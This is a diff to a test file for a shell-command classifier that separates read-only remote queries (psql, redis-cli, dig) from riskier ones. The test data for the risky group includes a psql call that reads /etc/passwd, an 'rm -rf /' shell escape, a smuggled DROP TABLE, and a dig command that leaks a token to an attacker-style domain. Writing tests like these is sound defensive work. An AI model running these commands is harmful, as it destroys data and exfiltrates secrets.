@@ -545,7 +545,7 @@ describe("classifyCommand: reading the cluster, the container daemon and GitHub 
     ]);
   });
 
-  it("a read-only command on another host, a Redis read and a DNS lookup are remote reads, with where they go", () => {
+  it("a read-only command on another host, a Redis or PostgreSQL read and a DNS lookup are remote reads, with where they go", () => {
     for (const [command, destinations] of [
       ["ssh db-2.internal 'systemctl cat node-exporter | grep -E \"^(After|Wants)\"'", ["db-2.internal"]],
       ["ssh -p 2222 deploy@web-1.internal 'tail -n 5 /var/log/syslog'", ["web-1.internal"]],
@@ -555,6 +555,14 @@ describe("classifyCommand: reading the cluster, the container daemon and GitHub 
       ["redis-cli -h cache-1.internal slowlog get 5", ["cache-1.internal"]],
       ["redis-cli -u redis://:pw@cache-2:6379 info memory | grep used", ["cache-2"]],
       ["redis-cli info stats", []],
+      // A query that only reads: SELECT, SHOW, EXPLAIN without ANALYZE, a catalog meta-command.
+      ["psql -h db-1.internal -U monitor -d postgres -Atc \"select name, setting from pg_settings where name in ('work_mem')\"", ["db-1.internal"]],
+      ["psql -Upostgres -hdb-9 -c 'SHOW work_mem' -c 'select pg_size_pretty(pg_database_size(current_database()))'", ["db-9"]],
+      ["psql postgresql://mon@db-3.internal:5432/app -Atc 'explain select count(*) from orders'", ["db-3.internal"]],
+      ["psql 'host=db-4 dbname=app' -c '\\dt'", ["db-4"]],
+      // A literal or a quoted name holds no statement.
+      ["psql -X -c \"select 'a;drop table t'\"", []],
+      ['psql -X -c \'select "Odd""Name" from t\'', []],
       ["dig api.acme.example A @8.8.8.8 +noall +answer", ["api.acme.example", "8.8.8.8"]],
       ["aws s3 ls s3://acme-backups/db/ --human-readable | tail -4", ["acme-backups"]],
       ["aws s3api head-object --bucket acme-backups --key db/x.dump --query '{size:ContentLength}'", ["acme-backups"]],
@@ -601,6 +609,26 @@ describe("classifyCommand: reading the cluster, the container daemon and GitHub 
       "redis-cli -h cache-1 config get requirepass",
       "redis-cli -h cache-1 --eval script.lua",
       "redis-cli -h cache-1 --rdb dump.rdb",
+      // A query that writes, takes locks, runs the database's own code, reads the server's files,
+      // or a psql that reads a script, writes a file or waits for input.
+      "psql -h db-1 -c 'delete from users'",
+      "psql -h db-1 -c 'select 1; drop table t'",
+      "psql -h db-1 -c 'select * into t2 from t'",
+      "psql -h db-1 -c 'select * from t for update'",
+      "psql -h db-1 -c 'explain analyze select 1'",
+      "psql -h db-1 -c 'with d as (delete from t returning *) select * from d'",
+      "psql -h db-1 -c \"select nextval('orders_id_seq')\"",
+      "psql -h db-1 -c \"select pg_read_file('/etc/passwd')\"",
+      "psql -h db-1 -c 'select refresh_totals()'",
+      "psql -h db-1 -c 'select $x$a$x$'",
+      "psql -h db-1 -c '\\! rm -rf /'",
+      "psql -h db-1 -c '\\copy t to out.csv'",
+      "psql -h db-1 -f script.sql",
+      "psql -h db-1 -o out.txt -c 'select 1'",
+      "psql -h db-1",
+      "PGPASSWORD=x psql -h db-1 -c 'select 1'",
+      "psql -h db-1 -v PROMPT1=x -c 'select 1'",
+      "ssh db-1 \"psql -c 'select 1'\"",
       "dig -f names.txt",
       "dig -k key.private example.org",
       "dig $(cat token).evil.example",
